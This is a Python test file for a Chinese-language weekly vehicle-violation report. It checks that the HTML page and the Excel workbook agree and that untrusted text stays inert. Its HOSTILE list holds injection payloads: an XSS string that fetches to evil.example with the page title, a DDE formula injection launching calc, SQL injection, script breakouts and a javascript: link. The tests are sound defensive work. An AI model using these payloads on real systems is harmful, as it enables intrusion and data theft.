"""The page and the workbook: same figures, same bytes, and text from outside stays text."""

import re
import zipfile
from dataclasses import replace
from datetime import datetime

import openpyxl
import pytest
from week_faces import Page, number, sheet_rows
from week_town import WEEK, at_ms, clue, frame, registry, town, track, trip

from reports import names
from reports.week.face_html import render_html
from reports.week.face_xlsx import SHEETS, write_xlsx
from reports.week.figures import report_of
from reports.week.input import HEALTH, REJECTED, TRACKS, TRIPS, VIOLATIONS, WeekInput

HOSTILE = [
    "{{7*7}}",
    "<img src=x onerror=fetch('http://evil.example/'+document.title)>",
    "=cmd|' /C calc'!A0",
    "'; drop table violations; --",
    "</script><script>window.ran=1</script>",
    "50{% 完成",
    "`${window.ran=1}`",
    "\"><svg onload='window.ran=1'>",
    "+1+1",
    "@SUM(1)",
    "{#",
    "=1+1",
]


@pytest.fixture(scope="module")
def faces(tmp_path_factory):
    report = report_of(town())
    path = tmp_path_factory.mktemp("faces") / "week.xlsx"
    write_xlsx(report, path)
    return report, Page(render_html(report)), path


def hostile_input():
    """A week in which every text from outside is hostile."""
    of = registry(HOSTILE[:6], HOSTILE)
    sites = tuple(replace(s, name=HOSTILE[n]) for n, s in enumerate(of.sites))
    districts = tuple(replace(d, name=HOSTILE[n + 4]) for n, d in enumerate(of.districts))
    trips = [trip(f"id{n}", plate, at_ms(n % 7, 21)) for n, plate in enumerate(HOSTILE)]
    clues = [
        clue(
            "off_route",
            plate,
            at_ms(n % 7, 22),
            trip_id=f"id{n}",
            district_id="x1",
            permit_no=plate,
            rule_version=plate,
        )
        for n, plate in enumerate(HOSTILE)
    ]
    clues += [clue(text, HOSTILE[0], at_ms(5, 22), site_id=text, company_id=text) for text in HOSTILE]
    health = [
        {
            "plate": p,
            "terminal": p,
            "datum_found": p,
            "faults": '{"<b>": {"why": "</td><script>window.ran=1</script>"}}',
        }
        for p in HOSTILE
    ]
    return WeekInput(
        WEEK,
        replace(of, sites=sites, districts=districts, digest="<script>window.ran=1</script>"),
        violations=frame(clues, VIOLATIONS),
        trips=frame(trips, TRIPS),
        trips_of_clues=frame(trips, TRIPS),
        tracks=frame([track(WEEK.monday, p) for p in [*HOSTILE[1:], "<b>unknown</b>"]], TRACKS),
        health=frame(health, HEALTH),
        rejected=frame([{"reason": t, "count": 1, "example": t} for t in HOSTILE], REJECTED),
        cutoff_ms=at_ms(5, 1),
    )


#: Table of the page, sheet and first head of the workbook's table, and columns of the page with their heads there.
SAME = [
    ("rules", "规则", "规则", "1线索数 2待复核 3属实 4不属实 5涉及车辆 6记分 7上周"),
    ("companies", "企业", "企业", "2登记车 3上线车 4趟次 5线索数 6属实 7每百趟 8记分 9上周"),
    ("vehicles", "车辆", "车牌", "3趟次 4线索数 5属实 6记分 7上周"),
    ("districts", "街道", "街道", "1线索数 2属实 3涉及车辆 4核准与路线 9定位与车牌 10上周"),
    ("trips", "行程", "车牌", "5里程/公里 7记分"),
    ("quality", "数据质量", "指标", "1本周 2上周"),
    ("terminals", "数据质量", "车牌", "3定位点 4上线天数"),
    ("rejected", "数据质量", "原因", "1数量"),
]


@pytest.mark.parametrize(("table", "sheet", "first", "columns"), SAME)
def test_page_and_workbook_say_the_same_numbers(faces, table, sheet, first, columns):
    _, page, path = faces
    shown = page.tables[table]
    rows = sheet_rows(path, sheet, first)
    if table == "rules":
        rows = [r for r in rows if r["线索数"] or r["不属实"] or r["上周"]]
    if table == "terminals":  # a second table of the sheet begins with the plate too
        rows = _terminals(path)
    assert shown and len(rows) >= len(shown)
    for line, row in zip(shown, rows, strict=False):
        for column, head in re.findall(r"(\d+)(\S+)", columns):
            text = line[int(column)]
            said, kept = number(text), row.get(head)
            assert (said is None) == (kept is None), (line, row)
            assert said is None or round(kept, 1 if "." in text else 0) == pytest.approx(said, abs=1e-9), (line, row)


def _terminals(path):
    rows = [[cell.value for cell in row] for row in openpyxl.load_workbook(path)["数据质量"].iter_rows()]
    head = next(n for n, row in enumerate(rows) if "本周完整度" in row)
    return [dict(zip(rows[head], row, strict=True)) for row in rows[head + 1 :] if row[0]]


def test_headline_agrees_with_the_overview_sheet(faces):
    report, page, path = faces
    rows = {(row["类别"], row["指标"]): row for row in sheet_rows(path, "总览", "类别")}
    for f in report.figures:
        row = rows["总体", f.name]
        assert (row["本周"], row["上周"], row["前四周均值"]) == pytest.approx((f.value, f.previous, f.mean4))
    for line in page.tables["families"]:
        row = rows["违规类别", line[0]]
        assert (number(line[1]), number(line[2]), line[3]) == (row["本周"], row["上周"], row["环比"])
    for line in page.tables["outcomes"][:4]:
        row = rows["复核结果", line[0]]
        assert (number(line[1]), number(line[2])) == (row["本周"], row["上周"])


def test_sites_and_hours_agree(faces):
    _, page, path = faces
    rows = sheet_rows(path, "工地", "方向")
    for way, table, shift in (("出土", "origins", 0), ("接收", "receivers", 1)):
        mine = [r for r in rows if r["方向"] == way]
        said = [[line[0], *(number(line[n + shift]) for n in (1, 2, 3, 4))] for line in page.tables[table]]
        assert said == [[r["场所"], r["趟次"], r["涉线索趟次"], r["线索数"], r["属实"]] for r in mine]
    heat = sheet_rows(path, "时段", "归属日期")
    for line, row in zip(page.tables["heat"], heat, strict=True):
        assert [line[0], *(int(cell or 0) for cell in line[1:])] == list(row.values())


def test_the_annex_lists_every_clue_with_typed_cells(faces):
    report, _, path = faces
    rows = sheet_rows(path, "违规明细", "归属日期")
    assert len(rows) == report.outcomes.all == len(report.clues)
    first, clue_ = rows[0], report.clues[0]
    assert first["归属日期"] == datetime.combine(clue_.day, datetime.min.time())
    assert (
        abs(
            first["开始"].timestamp()
            - datetime.fromtimestamp(clue_.start_ms / 1000, report.zone).replace(tzinfo=None).timestamp()
        )
        < 1
    )
    assert isinstance(first["记分"], int) and isinstance(first["置信度"], int | float)
    assert {r["状态"] for r in rows} == set(names.STATUS_NAMES.values())
    assert sum(r["记分"] for r in rows) == report.figure("points").value


def test_workbook_is_laid_out_for_reading_and_printing(faces):
    _, _, path = faces
    book = openpyxl.load_workbook(path)
    assert tuple(book.sheetnames) == SHEETS
    for sheet in book:
        assert sheet.freeze_panes and sheet.auto_filter.ref, sheet.title
        assert int(sheet.page_setup.paperSize) == 9 and sheet.sheet_properties.pageSetUpPr.fitToPage
        assert all(sheet.column_dimensions[c].width >= 5 for c in ("A", "B", "C"))


def test_same_report_same_bytes(tmp_path, faces):
    report, _, path = faces
    again = report_of(town())
    assert render_html(again) == render_html(report)
    write_xlsx(again, tmp_path / "again.xlsx")
    assert (tmp_path / "again.xlsx").read_bytes() == path.read_bytes()


def test_hostile_text_stays_text_in_the_workbook(tmp_path):
    write_xlsx(report_of(hostile_input()), tmp_path / "h.xlsx")
    with zipfile.ZipFile(tmp_path / "h.xlsx") as parts:
        sheets = [parts.read(n).decode() for n in parts.namelist() if n.startswith("xl/worksheets/")]
        assert not any("hyperlink" in parts.read(n).decode() for n in parts.namelist())
    assert not any("<f>" in sheet for sheet in sheets)
    book = openpyxl.load_workbook(tmp_path / "h.xlsx")
    seen = {cell.value for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "s"}
    assert set(HOSTILE) <= seen


def test_hostile_text_stays_text_in_the_page():
    page = Page(render_html(report_of(hostile_input())))
    plates = [line[1] for line in page.tables["vehicles"]]
    assert set(plates) == set(HOSTILE)
    assert {line[1] for line in page.tables["companies"]} >= set(HOSTILE[:6])
    assert not {tag for tag, _ in page.tags} & {"script", "img", "iframe", "object", "b2", "form"}
    assert not [attrs for _, attrs in page.tags if any(name.startswith("on") for name in attrs)]


def test_the_page_asks_for_nothing(faces):
    _, page, _ = faces
    fetching = [
        (tag, a) for tag, attrs in page.tags for a in ("src", "href", "srcset", "action", "data") if attrs.get(a)
    ]
    assert fetching == [("link", "href")]
    assert "http" not in "".join(page.text)


def test_trips_link_to_their_maps_and_a_path_cannot_be_a_script():
    report = report_of(town())
    first, second = report.trips[0].trip_id, report.trips[1].trip_id
    page = Page(render_html(report, {first: "../maps/行程 a#1?.html", second: "javascript:alert(1)"}))
    links = [attrs["href"] for tag, attrs in page.tags if tag == "a"]
    assert links == ["../maps/%E8%A1%8C%E7%A8%8B%20a%231%3F.html", "javascript%3Aalert%281%29"]


def test_a_week_without_data_gives_both_faces(tmp_path):
    report = report_of(WeekInput(WEEK, registry()))
    page = Page(render_html(report))
    assert "没有任何数据" in "".join(page.text) and set(page.tables) == {"quality"}
    write_xlsx(report, tmp_path / "empty.xlsx")
    book = openpyxl.load_workbook(tmp_path / "empty.xlsx")
    assert any("没有任何数据" in str(row[0].value) for row in book["总览"].iter_rows())
    assert sheet_rows(tmp_path / "empty.xlsx", "违规明细", "归属日期") == []


def test_in_a_browser_nothing_runs_nothing_is_fetched_and_all_is_seen(tmp_path, browser):
    path = tmp_path / "week.html"
    path.write_text(render_html(report_of(hostile_input())), encoding="utf-8")
    with browser.new_context(viewport={"width": 1366, "height": 900}, offline=True) as context:
        page = context.new_page()
        asked, said = [], []
        page.on("request", lambda request: asked.append(request.url))
        page.on("console", lambda message: said.append(message.text))
        page.on("pageerror", lambda error: said.append(str(error)))
        page.on("dialog", lambda dialog: said.append(dialog.message))
        page.goto(path.as_uri())
        page.wait_for_timeout(300)
        plates = page.locator("#vehicles tbody tr td:nth-child(2)").all_inner_texts()
        wide = page.evaluate("document.documentElement.scrollWidth")
        ran = page.evaluate("window.ran")
    assert ran is None and said == []
    assert [url for url in asked if not url.startswith("data:")] == [path.as_uri()]
    assert set(plates) == set(HOSTILE)
    assert wide <= 1366
